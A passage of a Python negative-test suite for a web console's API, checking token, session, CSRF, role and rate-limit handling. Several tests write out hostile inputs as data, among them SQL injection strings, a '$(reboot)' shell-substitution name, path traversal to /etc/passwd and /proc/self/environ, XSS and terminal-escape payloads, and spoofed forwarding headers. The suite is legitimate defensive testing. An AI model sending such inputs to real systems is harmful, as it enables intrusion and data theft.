         headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
    # ---- bearer tokens ----
    CReq("bearer: the word alone", "anon", "GET", ME,
         expect=(401, "unauthorized"), headers={"Authorization": "Bearer"}),
    CReq("bearer: 'Bearer ' and nothing", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer "}),
    CReq("bearer: empty header", "anon", "GET", ME,
         expect=(401, "unauthorized"), headers={"Authorization": ""}),
    CReq("bearer: garbage", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer garbage"}),
    CReq("bearer: the prefix only", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer lxa_"}),
    CReq("bearer: the static token and one more character", "anon", "GET",
         ME, expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer " + harness.Daemon.TOKEN + "x"}),
    CReq("bearer: the static token but the last character", "anon", "GET",
         ME, expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer " +
                  harness.Daemon.TOKEN[:-1]}),
    CReq("bearer: a personal token but the last character", "anon", "GET",
         ME, expect=(401, "unauthorized"),
         headers=lambda cx: {"Authorization": "Bearer " + cx.token[M][:-1]}),
    CReq("bearer: two spaces", "anon", "GET", ME,
         expect=[(401, "unauthorized"), (200, None)],
         headers={"Authorization": "Bearer  " + harness.Daemon.TOKEN}),
    CReq("bearer: Basic on TCP", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
    CReq("bearer: Digest on TCP", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": 'Digest username="an", nonce="x"'}),
    CReq("bearer: 10 KB token", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer lxa_" + "z" * (10 * KiB)}),
    CReq("bearer: 20 KB token (above the header limit)", "anon", "GET", ME,
         expect=(431, None),
         headers={"Authorization": "Bearer lxa_" + "z" * (20 * KiB)}),
    CReq("bearer: raw bytes", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers={"Authorization": b"Bearer lxa_\xff\xfe\x00\x80"}),
    CReq("bearer: a session id as a token", "anon", "GET", ME,
         expect=(401, "unauthorized"),
         headers=lambda cx: {"Authorization": "Bearer " + cx.cookie[M]}),
    CReq("bearer: SQL", "anon", "GET", ME, expect=(401, "unauthorized"),
         headers={"Authorization": "Bearer ' OR 1=1 --"}),
    CReq("bearer: a garbage token beside a valid admin cookie", "anon",
         "GET", ME, expect=(401, "unauthorized"),
         headers=lambda cx: {"Authorization": "Bearer garbage",
                             "Cookie": "loaxa_session=" +
                             cx.cookie["admin"]}),
    CReq("bearer: a manager's token beside an admin cookie is the manager",
         "anon", "GET", ME, expect=(200, None), check=is_me("minh"),
         headers=lambda cx: {"Authorization": "Bearer " + cx.token[M],
                             "Cookie": "loaxa_session=" +
                             cx.cookie["admin"]}),
    # ---- the users form (POST/PATCH /v1/users as an admin session) ----
    CReq("user: name with a slash and dots", "admin", "POST", U_,
         newuser(name="../x"), **UV(("name", "invalid"))),
    CReq("user: name with a space", "admin", "POST", U_,
         newuser(name="a b"), **UV(("name", "invalid"))),
    CReq("user: 65-character name", "admin", "POST", U_,
         newuser(name="n" * 65), **UV(("name", "invalid"))),
    CReq("user: empty name", "admin", "POST", U_, newuser(name=""),
         **UV(("name", "invalid"))),
    CReq("user: Vietnamese name", "admin", "POST", U_,
         newuser(name="Lân"), **UV(("name", "invalid"))),
    CReq("user: name starting with '-'", "admin", "POST", U_,
         newuser(name="-rf"), **UV(("name", "invalid"))),
    CReq("user: name starting with '.'", "admin", "POST", U_,
         newuser(name=".hidden"), **UV(("name", "invalid"))),
    CReq("user: SQL as the name", "admin", "POST", U_,
         newuser(name=SQL), **UV(("name", "invalid"))),
    CReq("user: shell as the name", "admin", "POST", U_,
         newuser(name="$(reboot)"), **UV(("name", "invalid"))),
    CReq("user: NUL in the name", "admin", "POST", U_,
         newuser(name="lan\u0000x"), **UV(("name", "invalid"))),
    CReq("user: name is a number", "admin", "POST", U_, newuser(name=7),
         **UV(("name", "wrong_type"))),
    CReq("user: name is null", "admin", "POST", U_, newuser(name=None),
         **UV(("name", "required"))),
    CReq("user: an existing name in another case", "admin", "POST", U_,
         newuser(name="LAN"), (409, "exists")),
    CReq("user: unknown role", "admin", "POST", U_, newuser(role="god"),
         **UV(("role", "invalid"))),
    CReq("user: empty role", "admin", "POST", U_, newuser(role=""),
         **UV(("role", "invalid"))),
    CReq("user: role is a number", "admin", "POST", U_, newuser(role=1),
         **UV(("role", "wrong_type"))),
    CReq("user: no role", "admin", "POST", U_,
         lambda: without(newuser(), "role"), **UV(("role", "required"))),
    CReq("user: a manager without groups", "admin", "POST", U_,
         newuser(role="manager"), **UV(("groups", "required"))),
    CReq("user: a manager with no group in the list", "admin", "POST", U_,
         newuser(role="manager", groups=[]), **UV(("groups", "required"))),
    CReq("user: groups is a string", "admin", "POST", U_,
         newuser(role="manager", groups="2A"),
         **UV(("groups", "wrong_type"))),
    CReq("user: unknown group code", "admin", "POST", U_,
         newuser(role="manager", groups=["9Z"]),
         **UV(("groups[0]", "unknown_group"))),
    CReq("user: traversal as a group", "admin", "POST", U_,
         newuser(role="manager", groups=["2A", "../../etc/passwd"]),
         **UV(("groups[1]", "unknown_group"))),
    CReq("user: SQL as a group", "admin", "POST", U_,
         newuser(role="manager", groups=[SQL]),
         **UV(("groups[0]", "unknown_group"))),
    CReq("user: a group is a number", "admin", "POST", U_,
         newuser(role="manager", groups=[2]),
         **UV(("groups[0]", "wrong_type"))),
    CReq("user: NUL in a group", "admin", "POST", U_,
         newuser(role="manager", groups=["2A\u0000x"]),
         **UV(("groups[0]", None))),
    CReq("user: 1000 groups", "admin", "POST", U_,
         lambda: newuser(role="manager",
                         groups=["2A", "2B"] * 500), [(201, None),
                                                     (422, "invalid")],
         check=lambda t, cx, r: r.status != 201 or t.assertEqual(
             sorted(r.body["groups"]), ["2A", "2B"])),
    CReq("user: 1000 unknown groups", "admin", "POST", U_,
         lambda: newuser(role="manager",
                         groups=["g%d" % i for i in range(1000)]),
         **UV(("groups[0]", "unknown_group"))),
    CReq("user: weak password (short)", "admin", "POST", U_,
         newuser(password="short"), **UV(("password", "weak"))),
    CReq("user: weak password (one character repeated)", "admin", "POST",
         U_, newuser(password="a" * 16), **UV(("password", "weak"))),
    CReq("user: weak password (one Vietnamese letter repeated)", "admin",
         "POST", U_, newuser(password="ớ" * 12),
         **UV(("password", "weak"))),
    CReq("user: 2 KB password", "admin", "POST", U_,
         newuser(password="x1" * KiB), **UV(("password", "weak"))),
    CReq("user: password is a number", "admin", "POST", U_,
         newuser(password=12345678901), **UV(("password", "wrong_type"))),
    CReq("user: NUL in the password", "admin", "POST", U_,
         newuser(password="correct\u0000horse"),
         **UV(("password", "invalid"))),
    # As "login: truncated in the password".
    CReq("user: truncated in the password", "admin", "POST", U_,
         b'{"name": "x1", "role": "official", "password": "mat khau bi',
         check=no_echo("mat khau")),
    CReq("user: invalid UTF-8 in the password", "admin", "POST", U_,
         b'{"name": "x1", "role": "official", "password": "m\xe1t kh\xe1u '
         b'1234"}', (400, "bad_request")),
    CReq("user: unix_uid negative", "admin", "POST", U_,
         newuser(unix_uid=-1), **UV(("unix_uid", "invalid"))),
    CReq("user: unix_uid a string", "admin", "POST", U_,
         newuser(unix_uid="1000"), **UV(("unix_uid", "invalid"))),
    CReq("user: unix_uid 2^32-1 (the -1 uid)", "admin", "POST", U_,
         newuser(unix_uid=2 ** 32 - 1), **UV(("unix_uid", "invalid"))),
    CReq("user: unix_uid 2^63-1", "admin", "POST", U_,
         newuser(unix_uid=I64 - 1), **UV(("unix_uid", "invalid"))),
    CReq("user: unix_uid 2^64", "admin", "POST", U_,
         newuser(unix_uid=2 ** 64), [(400, "bad_json"), (422, "invalid")]),
    CReq("user: unix_uid a real", "admin", "POST", U_,
         newuser(unix_uid=1000.5), **UV(("unix_uid", "invalid"))),
    CReq("user: unix_uid true", "admin", "POST", U_,
         newuser(unix_uid=True), **UV(("unix_uid", "invalid"))),
    CReq("user: invalid UTF-8 in display_name", "admin", "POST", U_,
         b'{"name": "x2", "role": "official", "display_name": "Nguy\xe1n"}',
         (400, "bad_request")),
    CReq("user: 100 KB display_name", "admin", "POST", U_,
         lambda: newuser(display_name="Đ" * LONG),
         **UV(("display_name", "too_long"))),
    CReq("user: terminal escapes in display_name", "admin", "POST", U_,
         newuser(display_name="\u001b[2J\u001b]0;pwned\u0007Lan"),
         **UV(("display_name", "control_chars"))),
    CReq("user: display_name is a number", "admin", "POST", U_,
         newuser(display_name=5), **UV(("display_name", "wrong_type"))),
    CReq("user: unknown field is_admin", "admin", "POST", U_,
         newuser(is_admin=True), **UV(("is_admin", "unknown_field"))),
    CReq("user: every field wrong", "admin", "POST", U_,
         {"name": 1, "role": [], "display_name": {}, "groups": 3,
          "password": False, "unix_uid": "x"},
         **UV(("name", "wrong_type"), ("role", "wrong_type"),
              ("display_name", "wrong_type"), ("groups", "wrong_type"),
              ("unix_uid", "invalid"))),
    CReq("user: PATCH an unknown role", "admin", "PATCH", U_ + "/lan",
         {"role": "god"}, **UV(("role", "invalid"))),
    CReq("user: PATCH disabled a string", "admin", "PATCH", U_ + "/lan",
         {"disabled": "yes"}, **UV(("disabled", "wrong_type"))),
    CReq("user: PATCH unix_uid negative", "admin", "PATCH", U_ + "/lan",
         {"unix_uid": -5}, **UV(("unix_uid", "invalid"))),
    CReq("user: PATCH a manager's groups to none", "admin", "PATCH",
         U_ + "/minh", {"groups": []}, **UV(("groups", "required"))),
    CReq("user: PATCH an unknown group", "admin", "PATCH", U_ + "/minh",
         {"groups": ["9Z"]}, **UV(("groups[0]", "unknown_group"))),
    CReq("user: PATCH a weak password", "admin", "PATCH", U_ + "/lan",
         {"password": "123"}, **UV(("password", "weak"))),
    CReq("user: PATCH unknown field", "admin", "PATCH", U_ + "/lan",
         {"pw_hash": "$argon2id$x"}, **UV(("pw_hash", "unknown_field"))),
    CReq("user: PATCH nobody", "admin", "PATCH", U_ + "/nobody",
         {"display_name": "x"}, (404, "not_found")),
    CReq("user: traversal in the path", "admin", "PATCH",
         U_ + "/" + quote("../an"), {"role": "manager"},
         [(404, "not_found"), (400, "bad_request")]),
    CReq("user: SQL in the path", "admin", "GET", U_ + "/" + quote(SQL),
         expect=(404, "not_found")),
    CReq("user: NUL in the path", "admin", "GET", U_ + "/an%00x",
         expect=[(404, "not_found"), (400, "bad_request")]),
    CReq("user: a 1 KB token label", "admin", "POST", U_ + "/an/tokens",
         {"label": "l" * KiB}, **UV(("label", "too_long"))),
    CReq("user: a token label is a number", "admin", "POST",
         U_ + "/an/tokens", {"label": 5}, **UV(("label", "wrong_type"))),
    CReq("user: DELETE token abc", "admin", "DELETE", U_ + "/an/tokens/abc",
         expect=[(404, "not_found"), (400, "bad_request")]),
    CReq("user: DELETE token 2^63", "admin", "DELETE",
         U_ + "/an/tokens/%d" % I64,
         expect=[(404, "not_found"), (400, "bad_request")]),
    CReq("user: DELETE another user's token id", "admin", "DELETE",
         lambda cx: U_ + "/an/tokens/%d" % cx.ids["minh-token"],
         expect=(404, "not_found")),
    # ---- a manager's session outside the role ----
    CReq("manager: POST /v1/users", "manager", "POST", U_,
         newuser(name="minh2", role="admin"), (403, "forbidden")),
    CReq("manager: made admin by themself", "manager", "PATCH",
         U_ + "/minh", {"role": "admin"}, (403, "forbidden")),
    CReq("manager: given 2B by themself", "manager", "PATCH",
         U_ + "/minh", {"groups": ["2A", "2B"]}, (403, "forbidden")),
    CReq("manager: another user's password", "manager", "PATCH",
         U_ + "/lan", {"password": "another good one"}, (403, "forbidden")),
    CReq("manager: another user's password, case-folded path", "manager",
         "PATCH", U_ + "/LAN", {"password": "another good one"},
         (403, "forbidden")),
    CReq("manager: own password with a wrong old one", "manager", "PATCH",
         U_ + "/minh", {"password": "another good one",
                        "old_password": "' OR 1=1 --"},
         **UV(("old_password", "wrong"))),
    CReq("manager: a token for another user", "manager", "POST",
         U_ + "/an/tokens", {"label": "x"}, (403, "forbidden")),
    CReq("manager: the audit log", "manager", "GET", "/v1/audit",
         expect=(403, "forbidden")),
    CReq("manager: PUT /v1/log", "manager", "PUT", "/v1/log",
         {"level": "debug"}, (403, "forbidden")),
    CReq("manager: a backup", "manager", "POST", "/v1/backup",
         expect=(403, "forbidden")),
    CReq("manager: metrics", "manager", "GET", "/metrics",
         expect=(403, "forbidden")),
    CReq("manager: add a group", "manager", "POST", "/v1/groups",
         {"code": "9Z", "name": "x"}, (403, "forbidden")),
    CReq("manager: delete group 2B", "manager", "DELETE",
         "/v1/groups/2B?force=1", expect=(403, "forbidden")),
    # ---- the household form as a manager of 2A ----
    CReq("household: group 2B", "manager", "POST", H,
         lambda: hh(group="2B"), (403, "forbidden")),
    CReq("household: group 2B by its name", "manager", "POST", H,
         lambda: hh(group="Nhóm dân cư 2B"), (403, "forbidden")),
    CReq("household: group 2b (case)", "manager", "POST", H,
         lambda: hh(group="2b"), (403, "forbidden")),
    CReq("household: edit one of 2B", "manager", "PATCH", hh_path("b2"),
         {"name": "x"}, (403, "forbidden")),
    CReq("household: move one of 2A to 2B", "manager", "PATCH",
         hh_path("a2"), {"group": "2B"}, (403, "forbidden")),
    CReq("household: delete one of 2B", "manager", "DELETE", hh_path("b2"),
         expect=(403, "forbidden")),
    CReq("household: opt out one of 2B", "manager", "POST",
         hh_path("b2", "/opt-out"), expect=(403, "forbidden")),
    CReq("household: read one of 2B", "manager", "GET", hh_path("b2"),
         expect=(403, "forbidden")),
    CReq("household: list 2B", "manager", "GET", H + "?group=2B",
         expect=(403, "forbidden")),
    CReq("household: history of one of 2B", "manager", "GET",
         hh_path("b2", "/history"), expect=[(403, "forbidden"),
                                            (404, "not_found")]),
    CReq("household: import into 2B", "manager", "POST",
         "/v1/import?group=2B", b"ho_ten,sdt\nAn,0977500002\n",
         (403, "forbidden"), headers=CSV_CT),
    CReq("household: export 2B", "manager", "GET", "/v1/export?group=2B",
         expect=(403, "forbidden")),
    CReq("household: the list holds 2A only", "manager", "GET",
         H + "?limit=1000", expect=(200, None),
         check=lambda t, cx, r: t.assertEqual(
             {x["group"] for x in r.body["households"]}, {"2A"})),
    # ---- the broadcast form as a manager of 2A ----
    CReq("broadcast: group 2B", "manager", "POST", B,
         lambda: meeting(groups=["2B"]), (403, "forbidden")),
    CReq("broadcast: groups 2A and 2B", "manager", "POST", B,
         lambda: meeting(groups=["2A", "2B"]), (403, "forbidden")),
    CReq("broadcast: group 2B by its name", "manager", "POST", B,
         lambda: notice(groups=["nhom dan cu 2b"]), (403, "forbidden")),
    CReq("broadcast: all groups", "manager", "POST", B,
         lambda: notice(groups="all"), (403, "forbidden")),
    CReq("broadcast: an all_groups field", "manager", "POST", B,
         lambda: notice(groups=["2A"], all_groups=True),
         **V(("all_groups", "unknown_field"))),
    CReq("broadcast: urgent to 2A", "manager", "POST", B,
         lambda: notice(groups=["2A"], priority="urgent"),
         (403, "forbidden")),
    CReq("broadcast: urgent to all", "manager", "POST", B,
         lambda: notice(groups="all", priority="urgent"),
         (403, "forbidden")),
    CReq("broadcast: requested_by in the body", "manager", "POST", B,
         lambda: meeting(groups=["2A"], requested_by="an"),
         **V(("requested_by", "unknown_field"))),
    CReq("broadcast: approve broadcast 2^63", "manager", "POST",
         B + "/%d/approve" % I64, expect=[(403, "forbidden"),
                                          (404, "not_found")]),
    CReq("broadcast: reject with a reason of the wrong type", "admin",
         "POST", B + "/999999/reject", {"reason": 5},
         [(404, "not_found"), (422, "invalid")]),
    CReq("broadcast: preview to 2B (nothing sent)", "manager", "POST", P,
         lambda: meeting(groups=["2B"]), [(200, None), (403, "forbidden")]),
    CReq("broadcast: the list holds none of another's", "manager", "GET", B,
         expect=(200, None),
         check=lambda t, cx, r: t.assertEqual(r.body["broadcasts"], [])),
    # ---- the console's static files ----
    CReq("static: /../etc/passwd", "admin", "GET", "/../etc/passwd",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: /../etc/passwd with no session", "anon", "GET",
         "/../etc/passwd", expect=[(401, "unauthorized"),
                                   (404, "not_found")], check=no_passwd),
    CReq("static: /%2e%2e/", "admin", "GET", "/%2e%2e/",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: /%2e%2e/%2e%2e/etc/passwd", "admin", "GET",
         "/%2e%2e/%2e%2e/etc/passwd", expect=(404, "not_found"),
         check=no_passwd),
    CReq("static: encoded slashes", "admin", "GET",
         "/index.html%2f..%2f..%2f..%2fetc%2fpasswd",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: backslashes", "admin", "GET", "/..%5c..%5cetc%5cpasswd",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: //etc/passwd", "admin", "GET", "//etc/passwd",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: /app.js/../../etc/passwd", "admin", "GET",
         "/app.js/../../etc/passwd", expect=(404, "not_found"),
         check=no_passwd),
    CReq("static: /index.html%00", "admin", "GET", "/index.html%00",
         expect=[(404, "not_found"), (400, "bad_request")]),
    CReq("static: /index.html%00.png", "admin", "GET", "/index.html%00.png",
         expect=[(404, "not_found"), (400, "bad_request")]),
    CReq("static: /index.html/", "admin", "GET", "/index.html/",
         expect=(404, "not_found")),
    CReq("static: /INDEX.HTML", "admin", "GET", "/INDEX.HTML",
         expect=(404, "not_found")),
    CReq("static: /./index.html", "admin", "GET", "/./index.html",
         expect=[(404, "not_found"), (200, None)]),
    CReq("static: the sources", "admin", "GET", "/console/app.js",
         expect=(404, "not_found")),
    CReq("static: /.git/config", "admin", "GET", "/.git/config",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: /meson.build", "admin", "GET", "/meson.build",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: /proc/self/environ", "admin", "GET", "/proc/self/environ",
         expect=(404, "not_found"), check=no_passwd),
    CReq("static: the database", "admin", "GET", "/loaxa.db",
         expect=(404, "not_found")),
    CReq("static: invalid UTF-8", "admin", "GET", "/%ff%fe.js",
         expect=(400, "bad_request")),
    CReq("static: 8000-character path", "admin", "GET", "/" + "a" * 8000,
         expect=(404, "not_found")),
    CReq("static: 100 KB path", "anon", "GET", "/" + "a" * LONG,
         expect=[(414, None), (431, None)]),
    CReq("static: /app.js?x=<script>", "anon", "GET",
         "/app.js?x=<script>alert(1)</script>", expect=(200, None),
         check=asset("app.js", ("text/javascript",
                                "application/javascript"))),
    CReq("static: /?x=%00", "anon", "GET", "/?x=%00&y=%ff",
         expect=[(200, None), (400, "bad_request")]),
    CReq("static: / with a hostile If-None-Match", "anon", "GET", "/",
         expect=(200, None), headers={"If-None-Match": "W/" + "\"," * 2000}),
    CReq("static: TRACE / with no session", "anon", "TRACE", "/",
         expect=(401, "unauthorized")),
    CReq("static: TRACE /", "admin", "TRACE", "/",
         expect=[(404, "not_found"), (405, "method_not_allowed")]),
    CReq("static: PUT /", "admin", "PUT", "/", b"<script>x</script>",
         expect=[(404, "not_found"), (405, "method_not_allowed")]),
    CReq("static: PUT /index.html with no session", "anon", "PUT",
         "/index.html", b"<script>x</script>", (401, "unauthorized")),
    CReq("static: DELETE /app.js", "admin", "DELETE", "/app.js",
         expect=[(404, "not_found"), (405, "method_not_allowed")]),
    CReq("static: POST / with no session", "anon", "POST", "/",
         b"user=an", (401, "unauthorized")),
]


# ---- console cases that take more than one request: fn(testcase, cx) ----

def case_session_fixation(t, cx):
    """A session id chosen by someone else is never taken on: the login
    makes a new one."""
    chosen = "lxs_" + "F" * 43
    r = cx.d.post(LOGIN, login("lan", PW), tcp=True,
                  headers={"Cookie": "loaxa_session=" + chosen})
    t.assertStatus(r, 200)
    got, sc = session_cookie(r)
    t.assertTrue(got, sc)
    t.assertNotEqual(got, chosen)
    t.assertError(cx.get(ME, cookie=chosen), 401, "unauthorized")
    cx.secrets += [got, r.body["csrf"]]
    t.assertEqual(cx.get(ME, cookie=got).body["user"]["name"], "lan")


def case_failed_login_sets_no_cookie(t, cx):
    """Nothing but a right password gives a session (not SQL, not a
    name cut by a NUL, not a case-folded name with a wrong password)."""
    for body in (login(SQL_LOGIN, PW), login("lan\u0000", PW),
                 login("LAN", "wrong password"), login("lan", PW.upper()),
                 login("lan", PW + " "), login(" lan", PW)):
        r = cx.d.post(LOGIN, body, tcp=True)
        t.assertIn(r.status, (401, 422), (body, r))
        t.assertNotIn("set-cookie", r.headers, r)


def case_revoked_token(t, cx):
    d = cx.d
    tok = t.ok(d.post(U_ + "/tuan/tokens", {"label": "laptop"}), 201)
    cx.secrets.append(tok["token"])
    auth = {"Authorization": "Bearer " + tok["token"]}
    t.assertEqual(t.ok(d.get(ME, tcp=True, headers=auth))["user"]["name"],
                  "tuan")
    t.assertStatus(d.delete(U_ + "/tuan/tokens/%d" % tok["id"]), 204)
    t.assertError(d.get(ME, tcp=True, headers=auth), 401, "unauthorized")
    t.assertError(d.get(ME, headers=auth), 401, "unauthorized")
    t.assertError(d.post(H, hh(), tcp=True, headers=auth), 401,
                  "unauthorized")
    # deleting it again: gone
    t.assertError(d.delete(U_ + "/tuan/tokens/%d" % tok["id"]), 404,
                  "not_found")


def case_disabled_user(t, cx):
    """A disabled user's token and session stop at once; enabling the
    user again brings the token back but not the session."""
    d = cx.d
    tok = t.ok(d.post(U_ + "/vy/tokens", {"label": "phone"}), 201)
    cookie, csrf = cx.login("vy")
    cx.secrets += [tok["token"], cookie, csrf]
    auth = {"Authorization": "Bearer " + tok["token"]}
    t.ok(d.get(ME, tcp=True, headers=auth))
    t.ok(cx.get(ME, cookie=cookie))
    t.ok(d.patch(U_ + "/vy", {"disabled": True}))
    t.assertError(d.get(ME, tcp=True, headers=auth), 401, "unauthorized")
    t.assertError(d.get(ME, headers=auth), 401, "unauthorized")
    t.assertError(cx.get(ME, cookie=cookie), 401, "unauthorized")
    t.assertError(cx.req("POST", H, hh(), cookie=cookie, csrf=csrf), 401,
                  "unauthorized")
    t.assertError(d.post(LOGIN, login("vy", PW), tcp=True), 401,
                  "bad_login")
    t.ok(d.patch(U_ + "/vy", {"disabled": False}))
    t.ok(d.get(ME, tcp=True, headers=auth))
    t.assertError(cx.get(ME, cookie=cookie), 401, "unauthorized")


def case_logout_needs_csrf(t, cx):
    """Logout is a write: a cross-site POST cannot end the session."""
    cookie, csrf = cx.login("tuan")
    cx.secrets += [cookie, csrf]
    t.assertError(cx.req("POST", "/v1/logout", cookie=cookie), 403, "csrf")
    t.ok(cx.get(ME, cookie=cookie))
    r = cx.req("POST", "/v1/logout", cookie=cookie, csrf=csrf)
    t.assertStatus(r, 204)
    t.assertIn("Max-Age=0", r.headers.get("set-cookie", ""))
    r = cx.get(ME, cookie=cookie)
    t.assertError(r, 401, "unauthorized")
    clears_cookie(t, cx, r)
    # the old session's CSRF token is no key either
    t.assertError(cx.req("POST", H, hh(), cookie=cookie, csrf=csrf), 401,
                  "unauthorized")


def case_html_household(t, cx):
    """HTML and script in a household are stored and returned verbatim,
    as JSON text (the console sets textContent)."""
    ids_ = []
    for name, addr, note in ((XSS, XSS2, XSS3), (XSS2, XSS3, XSS),
                             ("<b>Nguyễn</b> & <i>An</i> \"A\"", "'",
                              "&lt;")):
        r = cx.req("POST", H, hh(name=name, address=addr, note=note),
                   who=M)
        t.assertStatus(r, 201)
        t.assertTrue(r.headers["content-type"].startswith(
            "application/json"), r)
        t.assertHousehold(r.body, name=name, address=addr, note=note)
        ids_.append(r.body["id"])
        got = cx.req("GET", H + "/%d" % r.body["id"], who=M)
        t.assertEqual(got.body, r.body)
    r = cx.req("GET", H + "?limit=1000&q=" + quote("script"), who=M)
    t.assertStatus(r, 200)
    t.assertIn(XSS, [x["name"] for x in r.body["households"]])
    for i in ids_:
        t.assertStatus(cx.req("DELETE", H + "/%d" % i, who=M), 204)


def case_html_user_group_preview(t, cx):
    dn = XSS2 + " Chị Lan"
    r = cx.req("POST", U_, newuser(name="html-user", display_name=dn),
               who="admin")
    t.assertStatus(r, 201)
    t.assertEqual(r.body["display_name"], dn)
    t.assertEqual(cx.req("GET", U_ + "/html-user",
                         who="admin").body["display_name"], dn)
    t.assertIn(dn, [u["display_name"] for u in
                    cx.req("GET", U_, who="admin").body["users"]])
    r = cx.req("POST", "/v1/groups", {"code": "html", "name": XSS},
               who="admin")
    t.assertStatus(r, 201)
    t.assertEqual(r.body["name"], XSS)
    t.assertEqual(cx.req("GET", "/v1/groups/html",
                         who="admin").body["name"], XSS)
    t.assertStatus(cx.req("DELETE", "/v1/groups/html", who="admin"), 204)
    r = cx.req("POST", P, meeting(groups=["2A"], title=XSS, place=XSS3,
                                  agenda=XSS2), who=M)
    t.assertStatus(r, 200)
    t.assertIn(XSS, r.body["messages"][0]["text"])
    t.assertIn(XSS3, r.body["messages"][0]["text"])


def case_console_sets_text_only(t, cx):
    """The console never turns text from the API into markup."""
    r = cx.d.get("/app.js", tcp=True)
    t.assertStatus(r, 200)
    js = re.sub(r"/\*.*?\*/", "", r.raw.decode("utf-8"), flags=re.S)
    js = re.sub(r"(?m)^\s*//.*$", "", js)
    for bad in (r"\.innerHTML\s*\+?=", r"\.outerHTML\s*=",
                r"insertAdjacentHTML\s*\(", r"document\.write",
                r"\beval\s*\(", r"new\s+Function\s*\(",
                r"setTimeout\s*\(\s*['\"]", r"\.html\s*\("):
        t.assertIsNone(re.search(bad, js), "app.js uses " + bad)
    r = cx.d.get("/", tcp=True)
    t.assertStatus(r, 200)
    html = re.sub(rb"<!--.*?-->", b"", r.raw, flags=re.S)
    t.assertIsNone(re.search(rb"<script(?![^>]*\bsrc=)[^>]*>", html),
                   "inline script in index.html")
    t.assertIsNone(re.search(rb"<[^>]*\son[a-z]+\s*=", html),
                   "inline event handler in index.html")


def case_no_secrets_recorded(t, cx):
    """After everything above: no password, session id, CSRF or bearer
    token in the audit log or in loaxad's log."""
    entries = []
    before = None
    for _ in range(100):
        q = "/v1/audit?limit=1000" + ("&before=%d" % before if before
                                      else "")
        r = cx.d.get(q)
        t.assertStatus(r, 200)
        entries += r.body["entries"]
        before = r.body["next_before"]
        if not before:
            break
    t.assertGreater(len(entries), 50)
    text = json.dumps(entries, ensure_ascii=False)
    log = cx.d.log()
    for s in cx.all_secrets():
        t.assertNotIn(s, text, "a secret in the audit log")
        t.assertNotIn(s, log, "a secret in loaxad's log")
    # failed logins are there, with the tried name (valid ones only)
    failed = [e for e in entries if e["action"] == "login_failed"]
    t.assertGreater(len(failed), 10)
    t.assertIn("user (invalid name)", {e["target"] for e in failed})
    t.assertNotIn(SQL_LOGIN, text)


CONSOLE_SPECIAL = [
    Fn("a session id chosen by the client is not taken on",
       case_session_fixation),
    Fn("a failed login sets no cookie", case_failed_login_sets_no_cookie),
    Fn("a revoked token", case_revoked_token),
    Fn("a disabled user's token and session", case_disabled_user),
    Fn("logout needs the CSRF header", case_logout_needs_csrf),
    Fn("HTML and script in a household stored verbatim",
       case_html_household),
    Fn("HTML in a user, a group and a preview stored verbatim",
       case_html_user_group_preview),
    Fn("the console sets text, never markup", case_console_sets_text_only),
    Fn("no secret in the audit log or the log", case_no_secrets_recorded),
]


# ---- the login limiter ([console] login_attempts = LIMIT_ATTEMPTS) ----
# fn(testcase, cx, name): name is a user of its own (password PW), so that
# no case's failures count for another's.

def fail_login(t, cx, name, n=LIMIT_ATTEMPTS, **kw):
    for _ in range(n):
        r = cx.d.post(LOGIN, login(name, "wrong password"), tcp=True, **kw)
        t.assertError(r, 401, "bad_login")


def check_held(t, r):
    t.assertError(r, 429, "too_many_attempts")
    t.assertNotIn("set-cookie", r.headers, r)
    wait = int(r.headers["retry-after"])
    t.assertTrue(0 < wait <= 15 * 60, wait)


def limit_basic(t, cx, name):
    fail_login(t, cx, name)
    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))
    check_held(t, cx.d.post(LOGIN, login(name, "wrong again"), tcp=True))


def limit_case_folded(t, cx, name):
    """Failures of NAME, Name and nAME count for one name."""
    for v in (name.upper(), name.capitalize(), name[0] + name[1:].upper()):
        r = cx.d.post(LOGIN, login(v, "wrong password"), tcp=True)
        t.assertError(r, 401, "bad_login")
    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))


def limit_forwarded_headers(t, cx, name):
    """Forwarded-for headers do not make another address."""
    fail_login(t, cx, name)
    for h in ({"X-Forwarded-For": "10.1.2.3"}, {"X-Real-IP": "10.1.2.4"},
              {"Forwarded": "for=10.1.2.5"},
              {"X-Forwarded-For": "127.0.0.2, 10.0.0.1"}):
        check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True,
                                headers=h))


def limit_bad_requests_do_not_count(t, cx, name):
    """Malformed logins are refused before the password is tried: they
    hold nobody back."""
    for body in (login(name, None), login(name, 5), login(name + "\u0000",
                                                          PW),
                 {"user": name, "password": None}):
        for _ in range(LIMIT_ATTEMPTS):
            r = cx.d.post(LOGIN, body, tcp=True)
            t.assertError(r, 422, "invalid")
    for _ in range(LIMIT_ATTEMPTS):
        r = cx.d.post(LOGIN, b'{"user": "%s", "password":' % name.encode(),
                      tcp=True, headers=JSON)
        t.assertError(r, 400, "bad_json")
    cx.login(name)


def limit_invalid_names(t, cx, name):
    """Invalid names (SQL, shell, too long) are held back together, and
    that holds back no real user."""
    for n in (SQL_LOGIN, "$(reboot)", "x" * 65, "Lân", "a b"):
        r = cx.d.post(LOGIN, login(n, "x"), tcp=True)
        t.assertIn(r.status, (401, 429), r)
    check_held(t, cx.d.post(LOGIN, login("' OR 2=2 --", "x"), tcp=True))
    cx.login(name)


def limit_other_name_free(t, cx, name):
    """One name held back holds back no other name."""
    fail_login(t, cx, name)
    check_held(t, cx.d.post(LOGIN, login(name, PW), tcp=True))
